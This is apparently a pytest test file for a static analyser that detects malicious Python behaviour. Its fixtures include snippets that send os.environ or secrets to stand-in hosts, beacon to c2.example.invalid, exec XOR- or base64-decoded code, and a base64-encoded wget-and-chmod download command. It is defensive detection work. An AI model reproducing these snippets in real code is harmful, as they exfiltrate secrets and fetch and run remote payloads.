"""Data-flow facts: what must not leave the machine reaching a sender, decoding helpers,
command lines given as argv lists, droppers and disguised imports."""

from __future__ import annotations

import ast

import pytest

from finalexam.analyze.behavior.python import decoding, visitor
from finalexam.analyze.behavior.python.visitor import python_facts


def calls(source: str) -> set[str]:
    return {f.value for f in python_facts(source).facts if f.kind == "call"}


def strings(source: str) -> set[str]:
    return {f.value for f in python_facts(source).facts if f.kind == "string"}


def test_whole_environment_reaching_a_sender_is_recorded() -> None:
    loop = (
        "from os import environ\nimport requests\ndef f():\n    m = ''\n"
        "    for _, v in environ.items():\n        m += v\n"
        "    requests.get('https://x.example.invalid/' + m)\n"
    )
    assert "network<-os.environ" in calls(loop)
    nested = "import os, json, urllib.request as r\nd = json.dumps({'e': dict(os.environ)})\n"
    nested += "r.urlopen(r.Request('https://x.example.invalid', data=d.encode()))\n"
    assert "network<-os.environ" in calls(nested)
    # one setting read by name is configuration, not the environment
    single = "import os, requests\nrequests.get(u, headers={'A': os.environ.get('TOKEN')})\n"
    single += "requests.post(u, json={'k': os.environ['KEY'], 'v': os.getenv(name)})\n"
    assert "network<-os.environ" not in calls(single)


_WORKER = """\
import os, socket, subprocess
from .ipc import send
class WorkerClient:
    def __init__(self, status_file, options, env):
        self.proc = subprocess.Popen(['python', '-m', 'worker', status_file], env=env)
        self.conn = socket.create_connection(('127.0.0.1', 7000))
def start(build_id, worker_env=None):
    workers = [WorkerClient(f'{build_id}.json', 'o', worker_env or os.environ)]
    for worker in workers:
        send(worker.conn, b'ready')
"""


def test_the_environment_a_local_class_gives_its_child_process_is_not_sent() -> None:
    """mypy's build workers: ``WorkerClient(..., os.environ)`` hands the environment to
    ``Popen(env=...)``; the worker's connection then carries messages, not the environment."""
    assert "network<-os.environ" not in calls(_WORKER)
    # a class that keeps or serialises the environment passes it on
    kept = _WORKER.replace("env=env)", "env=env)\n        self.blob = repr(env)")
    assert "network<-os.environ" in calls(kept.replace("b'ready'", "worker.blob.encode()"))
    stored = _WORKER.replace("env=env)", "env=dict(env))")
    assert "network<-os.environ" in calls(stored.replace("b'ready'", "str(workers).encode()"))


def test_identity_and_key_material_reaching_a_sender() -> None:
    recon = "import socket, urllib.request\np = socket.getfqdn()\n"
    recon += "urllib.request.urlopen('https://x.example.invalid/?' + p)\n"
    assert "network<-recon" in calls(recon)
    secret = "import httpx\nasync def f(mnem):\n    async with httpx.AsyncClient() as c:\n"
    secret += "        await c.post(URL, files={'f': (mnem, b'')})\n"
    assert "network<-secret" in calls(secret)
    assert "network<-secret" not in calls("import requests\nrequests.post(URL, json=signed_tx)")


def test_decoding_helpers_and_xor_loops_are_decoders() -> None:
    helper = "import base64, subprocess\ndef d(s):\n    return base64.b64decode(s).decode()\n"
    helper += (
        "subprocess.run(d('d2dldCAtcU8gL3RtcC94IGh0dHA6Ly9hLmV4YW1wbGUvYyAmJiBjaG1vZCAreCAv'))\n"
    )
    found = strings(helper)
    assert any(s.startswith("wget -qO /tmp/x http://a.example/c && chmod +x") for s in found)
    assert "subprocess.run<-base64.b64decode" in calls(helper)
    xor = "k = '42'\nx = ''\nfor i, c in enumerate(blob):\n    x += chr(ord(c) ^ ord(k[i % 2]))\n"
    xor += "eval(compile(x, '<s>', 'exec'))\n"
    assert {"eval<-xor", "compile<-xor"} <= calls(xor)
    method = "class P:\n    def decode(self, e):\n        return bytes(b ^ 7 for b in e)\n"
    method += "    def run(self):\n        exec(self.decode(self.code))\n"
    assert "exec<-xor" in calls(method)
    # an encoder is not a decoder
    encoder = "import base64, subprocess\ndef auth(u):\n    return base64.b64encode(u).decode()\n"
    encoder += "subprocess.run(['curl', '-H', auth(u)])\n"
    assert not any("<-" in c for c in calls(encoder))


def test_hidden_urls_argv_commands_and_eval_aliases() -> None:
    assert "decoded-url" in calls("A = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ=='\n")
    assert "https://example.invalid/a" in strings("A = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ=='\n")
    argv = "import subprocess\nsubprocess.Popen(['powershell.exe', '-WindowStyle', 'Hidden', c])\n"
    assert "powershell.exe -WindowStyle Hidden {}" in strings(argv)
    pip = "import subprocess\nsubprocess.run(['pip', 'install', f'git+{u}'])\n"
    assert "spawn:pip-install" in calls(pip)
    inline = "import subprocess\nsubprocess.Popen(['python3', '-c', 'import x'])\n"
    assert "spawn:python-inline" in calls(inline)
    aliased = "_e = eval('eval')\n_e(source)\nrun, s = exec, str\nrun(payload)\n"
    assert {"eval", "exec"} <= calls(aliased)
    dynamic = "rq = __import__('requests')\ng = getattr(rq, ''.join(['g', 'e', 't']))\n"
    assert "requests.get" in calls(dynamic)


def test_droppers_and_disguised_archives() -> None:
    dropper = "import requests\nr = requests.get(u)\nopen('C:/Temp/a.exe', 'wb').write(r.content)\n"
    assert "drop-executable<-download" in calls(dropper)
    retrieve = "import os, urllib.request\np = os.path.join(d, 'helper.exe')\n"
    retrieve += "urllib.request.urlretrieve(u, p)\n"
    assert "drop-executable<-download" in calls(retrieve)
    decoded = "import base64\ndef save(name='c.py'):\n    with open(name, 'w') as f:\n"
    decoded += "        f.write(base64.b64decode(DATA).decode())\n"
    assert "drop-executable<-decoded" in calls(decoded)
    data = "import requests\nwith open('data.json', 'wb') as f:\n"
    data += "    f.write(requests.get(u).content)\n"
    assert not any(c.startswith("drop-") for c in calls(data))
    # a local script copied into a generated one is no download (google-cloud-aiplatform)
    copied = "def package(script_path, out):\n    with open(f'{out}/trainer.py', 'w') as f:\n"
    copied += "        f.write('import x\\n')\n        f.write(open(script_path, 'r').read())\n"
    assert not any(c.startswith("drop-") for c in calls(copied))
    fetched = "import urllib.request\ndef get(u):\n    with open('run.py', 'wb') as f:\n"
    fetched += "        f.write(urllib.request.urlopen(u).read())\n"
    assert "drop-executable<-download" in calls(fetched)
    response = "from urllib.request import urlopen\nresp = urlopen(u)\nbody = resp.read()\n"
    response += "open('a.sh', 'wb').write(body)\n"
    assert "drop-executable<-download" in calls(response)
    disguised = (
        "import os, zipimport\nz = zipimport.zipimporter(f'{os.path.dirname(__file__)}/a.crt')\n"
    )
    assert "zipimport<-disguised-file" in calls(disguised)
    assert "zipimport<-disguised-file" not in calls(
        "import zipimport\nzipimport.zipimporter('x.zip')"
    )


def supplied(source: str) -> dict[int, bool]:
    """Import-time connection calls by line: whether only the caller chooses the destination."""
    facts = python_facts(source).facts
    network = ("requests.get", "urllib.request.urlopen", "socket.create_connection")
    return {
        f.line: f.caller_supplied
        for f in facts
        if f.kind == "call" and f.value in network and f.context == "import"
    }


def test_import_time_connection_to_a_parameter_is_caller_supplied() -> None:
    # a loader reached at import that opens whatever file name or URL it is given
    loader = (
        "import os, urllib.request\n"
        "def open_any(name):\n"
        "    if name.startswith('https://'):\n"
        "        return urllib.request.urlopen(name)\n"  # line 4
        "    return open(os.path.expanduser(name))\n"
        "def load(fname, strict=False):\n"
        "    return open_any(fname)\n"
        "settings = load(os.path.join(os.path.dirname(__file__), 'defaults.cfg'))\n"
        "user = load(find_user_file())\n"
    )
    assert supplied(loader) == {4: True}
    sockets = "import socket\ndef dial(host):\n    return socket.create_connection((host, 80))\n"
    assert supplied(sockets + "dial(configured())\n") == {3: True}


def test_literal_destinations_reached_through_helpers_are_not_caller_supplied() -> None:
    helper = "import requests\ndef fetch(u):\n    return requests.get(u)\n"
    two_level = helper + "def beacon(base):\n    return fetch(base + '/ping')\n"
    cases = {
        "literal argument": helper + "fetch('http://203.0.113.7/x')\n",
        "module constant": helper + "URL = 'https://c2.example.invalid/a'\nfetch(URL)\n",
        "decoded literal": "import base64\n"
        + helper
        + "fetch(base64.b64decode('aHR0cDovL2MyLmV4YW1wbGUuaW52YWxpZC8=').decode())\n",
        "through two helpers": two_level + "beacon('http://c2.example.invalid')\n",
        "thread arguments": "import threading\n"
        + helper
        + "threading.Thread(target=fetch, args=('http://c2.example.invalid',)).start()\n",
        "literal default": "import requests\n"
        "def fetch(u='http://c2.example.invalid'):\n    return requests.get(u)\nfetch()\n",
        "socket address": "import socket\ndef dial(host, port):\n"
        "    return socket.create_connection((host, port))\ndial('c2.example.com', 443)\n",
    }
    for name, source in cases.items():
        assert set(supplied(source).values()) == {False}, name
    # destinations the function chooses itself are never the caller's
    own = (
        "import requests\nURL = 'https://c2.example.invalid'\n"
        "def beacon(path):\n    requests.get(URL + path)\n    requests.get(config())\n"
        "beacon(x())\n"
    )
    assert supplied(own) == {4: False, 5: False}


def test_a_long_sum_is_folded_in_linear_work(monkeypatch: pytest.MonkeyPatch) -> None:
    """sympy's polys/benchmarks/bench_solvers.py: polynomials of hundreds of terms. Each `+`
    node is folded once, not once per enclosing sum (quadratic: the file ran out of its time
    budget and the exam of sympy was incomplete)."""
    entered = 0
    real = decoding.fold

    def counted(node: ast.AST | None, sums: dict[int, str | None] | None = None) -> str | None:
        nonlocal entered
        entered += 1
        return real(node, sums)

    monkeypatch.setattr(decoding, "fold", counted)
    monkeypatch.setattr(visitor, "fold", counted)
    terms = 900
    source = "def f(x, y):\n    return " + " + ".join(f"{i}*x**2*y" for i in range(terms)) + "\n"
    facts = python_facts(source)
    assert facts.parsed
    assert entered < 10 * terms  # quadratic work would be about terms**2 / 2
    # constant pieces inside a longer sum still fold
    assert "system" in strings("y = a + ('sys' + 'tem')\n")
